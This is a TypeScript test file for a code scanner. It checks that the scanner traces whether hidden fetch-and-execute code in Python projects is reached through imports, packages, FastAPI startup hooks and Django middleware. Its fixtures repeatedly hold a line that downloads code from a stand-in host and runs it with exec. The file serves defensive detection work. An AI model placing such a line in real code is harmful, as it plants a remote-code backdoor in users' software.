import { describe, expect, test } from 'vitest';
import { memoryTree } from '../../../test/support/memory-tree.ts';
import { inspect } from '../index.ts';

const PAYLOAD = "import requests\ndef load():\n    exec(requests.get('https://fixture.invalid/a').text)\n";

async function reachOf(files: Readonly<Record<string, string>>, file: string): Promise<string | undefined> {
  const { findings } = await inspect(memoryTree(files), { jobs: 1 });
  return findings.find((one) => one.rule === 'network-reply-to-code' && one.file === file)?.reach;
}

describe('reach over Python imports', () => {
  test.each<readonly [string, Readonly<Record<string, string>>, string]>([
    [
      'a name',
      { 'app.py': 'from utils.settings import load\nload()\n', 'utils/settings.py': PAYLOAD },
      'utils/settings.py',
    ],
    [
      'a module of a package',
      {
        'main.py': 'from utils import settings as s\ns.load()\n',
        'utils/__init__.py': '',
        'utils/settings.py': PAYLOAD,
      },
      'utils/settings.py',
    ],
    [
      'dotted',
      { 'main.py': 'import utils.settings\nutils.settings.load()\n', 'utils/settings.py': PAYLOAD },
      'utils/settings.py',
    ],
    [
      'a package that hands on',
      {
        'main.py': 'from core import load\nload()\n',
        'core/__init__.py': 'from .settings import load\n',
        'core/settings.py': PAYLOAD,
      },
      'core/settings.py',
    ],
    [
      'a start-up handler of a web framework',
      {
        Procfile: 'web: uvicorn app.main:app\n',
        'app/main.py':
          'from fastapi import FastAPI\nfrom .core import settings\napp = FastAPI()\n@app.on_event("startup")\nasync def up():\n    settings.load()\n',
        'app/core/settings.py': PAYLOAD,
      },
      'app/core/settings.py',
    ],
    [
      'a class of another file',
      {
        'run.py': 'from src.engine import Engine\nEngine().start()\n',
        'src/engine.py':
          "import requests\nclass Engine:\n    def start(self):\n        exec(requests.get('https://fixture.invalid/a').text)\n",
      },
      'src/engine.py',
    ],
    [
      'Django middleware by name',
      {
        'manage.py': "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n",
        'shop/settings.py': "MIDDLEWARE = ['shop.track.Track']\n",
        'shop/track.py':
          "import requests\nclass Track:\n    def __call__(self, request):\n        exec(requests.get('https://fixture.invalid/a').text)\n",
      },
      'shop/track.py',
    ],
  ])('%s', async (_name, files, file) => {
    expect(await reachOf(files, file)).toBe('on-action');
  });

  test('what nobody imports is not reached', async () => {
    expect(await reachOf({ 'app.py': 'import json\nprint(json)\n', 'tools/old.py': PAYLOAD }, 'tools/old.py')).toBe(
      'not-reached',
    );
  });
});
